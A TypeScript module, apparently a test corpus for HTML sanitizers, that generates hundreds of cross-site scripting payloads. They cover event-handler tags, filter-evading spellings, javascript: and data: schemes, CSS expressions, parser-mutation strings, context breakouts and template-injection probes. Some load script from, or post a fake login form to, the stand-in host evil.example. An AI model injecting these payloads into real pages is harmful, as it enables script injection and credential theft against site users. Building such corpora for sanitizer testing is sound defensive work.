/**
 * Texts that would run, load or lead somewhere if anything put them into a page as they are. Made from tables: what may
 * carry code, how it can be spelt, and how one gets out of the place one was put in.
 */

const HANDLERS =
  "onload onerror onclick onmouseover onfocus ontoggle onbegin onanimationstart onpointerenter onwheel".split(" ");
const CARRIERS =
  "img svg body video audio details input iframe marquee select textarea button a div table td form object math p style".split(
    " ",
  );
const handlers = CARRIERS.flatMap((tag, at) =>
  [0, 3, 7].map((step) => {
    const handler = HANDLERS[(at + step) % HANDLERS.length];
    return `<${tag} src=x open autofocus tabindex=1 ${handler}=alert(1)>x</${tag}>`;
  }),
);

/** How one writes an attribute so that filters by pattern do not see it. */
const spellings = [
  "<img/src=x/onerror=alert(1)>",
  "<img\tsrc=x\nonerror\f=\ralert(1)>",
  "<IMG SRC=x OnErRoR=alert(1)>",
  "<img src=x onerror\u0000=alert(1)>",
  "<img src=x onerror=&#97;lert(1)>",
  "<img src=x onerror=`alert(1)`>",
  '<img src="x" title="a>b" onerror="alert(1)">',
  "<img src='x'onerror='alert(1)'>",
  "<<img src=x onerror=alert(1)>",
  "<img src=x onerror=alert(1)//",
  "<img src=x:x onerror=alert(1)",
  "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
  "<svg><set attributeName=onmouseover to=alert(1)>x</svg>",
  "<svg><use href=data:image/svg+xml,<svg/onload=alert(1)>></svg>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
  "<x onclick=alert(1)>x</x>",
  "<script>alert(1)</script>",
  "<script src=https://evil.example/a.js></script>",
  "<script/x>alert(1)</script/x>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<ScRiPt type=module>import('https://evil.example/a.js')</ScRiPt>",
  "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
  "<object data=https://evil.example/a.swf></object>",
  "<embed src=https://evil.example/a.swf>",
  "<base href=https://evil.example/>",
  "<link rel=stylesheet href=https://evil.example/a.css>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<meta http-equiv=set-cookie content=a=b>",
  "<form action=https://evil.example/><input name=password><button>Log in</button></form>",
  "<input type=image src=x onerror=alert(1)>",
  "<isindex action=javascript:alert(1) type=image>",
  "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
  "<portal src=https://evil.example/></portal>",
  "<dialog open onclose=alert(1)>x</dialog>",
  "<template><script>alert(1)</script></template>",
  "<applet code=a.class></applet>",
  "<bgsound src=javascript:alert(1)>",
  "<xml><i><b>&lt;img src=1 onerror=alert(1)&gt;</b></i></xml>",
];

/** Ways to write a scheme that runs or reads something; browsers drop tabs, line ends and leading control characters. */
export const SCHEMES = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "\u0001javascript:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "java\r\nscript:alert(1)",
  "javascript\t:alert(1)",
  "\u00a0javascript:alert(1)",
  "\u2028javascript:alert(1)",
  "\ufeffjavascript:alert(1)",
  "javascript://example.com/%0aalert(1)",
  "javascript:/*https://example.com*/alert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=alert(1)>",
  "data:application/xhtml+xml,<x/>",
  "file:///etc/passwd",
  "blob:https://example.com/1",
  "filesystem:https://example.com/temporary/a.html",
  "about:blank",
  "view-source:javascript:alert(1)",
  "jar:https://evil.example/a.jar!/a",
  "feed:javascript:alert(1)",
  "livescript:alert(1)",
  "mocha:alert(1)",
  "ftp://example.com/a",
  "gopher://example.com/",
  "ldap://example.com/",
  "ms-word:ofe|u|https://evil.example/a.docm",
  "ms-msdt:/id",
  "search-ms:query=a",
  "intent://scan/#Intent;scheme=zxing;end",
  "chrome://settings",
  "ws://example.com/",
  "sms:+123",
  "smb://evil.example/a",
  "\\\\evil.example\\a",
  "https://user:pass@evil.example/",
];
/** The same as they stand in an attribute, with character references that only a parser resolves. */
const hidden = [
  "java&#x09;script:alert(1)",
  "&#106;&#97;&#118;&#97;script:alert(1)",
  "&#0000106avascript:alert(1)",
  "javascript&colon;alert(1)",
  "java&NewLine;script:alert(1)",
  "jav&Tab;ascript:alert(1)",
  "&#x6A;avascript&#58;alert(1)",
];
const quoted = (text: string) => `"${text.replaceAll('"', "&quot;")}"`;
const PLACES: ((address: string) => string)[] = [
  (address) => `<a href=${address}>x</a>`,
  (address) => `<img src=${address}>`,
  (address) => `<form action=${address}><button formaction=${address}>x</button></form>`,
  (address) => `<iframe src=${address}></iframe>`,
  (address) => `<object data=${address}></object><embed src=${address}>`,
  (address) => `<svg><a xlink:href=${address}><text>x</text></a></svg><math href=${address}>x</math>`,
  (address) => `<table background=${address}><tr><td background=${address}>x</td></tr></table>`,
  (address) =>
    `<map><area href=${address}></map><video poster=${address}></video><a ping=${address} href=https://a.example>x</a>`,
];
const addresses = [...SCHEMES.map(quoted), ...hidden.map(quoted)].flatMap((address, at) =>
  // Every spelling as a link, and in three of the other places, which differ from one to the next.
  [0, 1 + (at % 7), 1 + ((at + 2) % 7), 1 + ((at + 4) % 7)].map((place) => PLACES[place]?.(address) as string),
);

const css = [
  "width:expression(alert(1))",
  "background:url(javascript:alert(1))",
  "background:url('java\\73 cript:alert(1)')",
  "behavior:url(https://evil.example/a.htc)",
  "-moz-binding:url(https://evil.example/a.xml#a)",
  "list-style-image:url(https://evil.example/a.png)",
  "position:fixed;inset:0;z-index:9",
  "color:red;}</style><script>alert(1)</script>",
  "background:u\\72l(https://evil.example/a)",
  "font-family:'</style><img src=x onerror=alert(1)>'",
  "x:\\65xpression(alert(1))",
  "content:url(https://evil.example/a)",
].flatMap((rule) => [`<div style=${quoted(rule)}>x</div>`, `<style>p{${rule}}</style><p>x</p>`]);
const sheets = [
  "<style>@import 'https://evil.example/a.css';</style>x",
  "<style>@font-face{src:url(https://evil.example/a)}</style>x",
];

/** Texts that change their meaning when they are parsed, printed and parsed again. */
const mutations = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
  '<xmp><p title="</xmp><script>alert(1)</script>">',
  '<textarea><p title="</textarea><img src onerror=alert(1)>">',
  '<title><p title="</title><script>alert(1)</script>">',
  '<noembed><p title="</noembed><script>alert(1)</script>">',
  '<noframes><p title="</noframes><script>alert(1)</script>">',
  "<plaintext><script>alert(1)</script>",
  "<template><s><template><s><img src=x onerror=alert(1)>@</s></template></s></template>",
  "<!--><script>alert(1)</script>-->",
  "<!---><script>alert(1)</script>-->",
  "<!-- --!><img src=x onerror=alert(1)>-->",
  "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
  "<![if !mso]><script>alert(1)</script><![endif]>",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml version='1.0'?><script>alert(1)</script>",
  "<!doctype html [<!entity x '<script>alert(1)</script>'>]>&x;",
  '<a title="--><script>alert(1)</script>">x</a>',
  '<img alt="<!--" src="https://a.example/a.png"><img alt="--><script>alert(1)</script>" src="https://a.example/a.png">',
  "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
  "<select><style></select><img src=x onerror=alert(1)></style>",
  "<table><caption><svg><title></caption><script>alert(1)</script></title></svg></table>",
  "<a href='https://a.example/\" onmouseover=\"alert(1)'>x</a>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
  "\ud800<script>alert(1)</script>\udfff",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "\u001b$B<script>alert(1)</script>\u001b(B",
];

/** Out of an attribute, a title, a script, a style, a cell, a mail's part, a header, a template. */
const breakouts = [
  '"',
  "'",
  "`",
  "</td></tr></table>",
  "</title>",
  "</script>",
  "</style>",
  "</textarea>",
  "-->",
  "]]>",
  "\u2028",
  "\r\n\r\n",
  "=\r\n",
  "--=_part\r\n",
  "\\u003c/script\\u003e",
  "</p></div></body></html>",
].flatMap((out) => [`${out}><script>alert(1)</script>`, `${out} onmouseover=alert(1) x=${out}`]);
const templates = [
  "{{7*7}}",
  "$".concat("{alert(1)}"),
  "<%= 7*7 %>",
  "#{7*7}",
  "{{constructor.constructor('alert(1)')()}}",
];

/** Markup that is active wherever it is read as HTML. */
export const ACTIVE = [...handlers, ...spellings, ...addresses, ...css, ...sheets];
export const PAYLOADS = [...ACTIVE, ...mutations, ...breakouts, ...templates];
